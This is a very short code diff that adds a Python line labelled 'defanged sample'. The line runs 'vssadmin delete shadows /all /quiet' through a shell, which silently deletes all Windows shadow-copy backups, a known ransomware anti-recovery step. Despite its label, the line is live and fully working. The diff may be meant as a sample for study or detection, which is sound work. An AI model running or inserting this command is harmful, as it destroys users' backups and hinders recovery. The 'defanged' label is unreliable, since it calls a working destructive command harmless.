@@ -1,0 +1,2 @@
+# defanged sample
+subprocess.run('vssadmin delete shadows /all /quiet', shell=True)
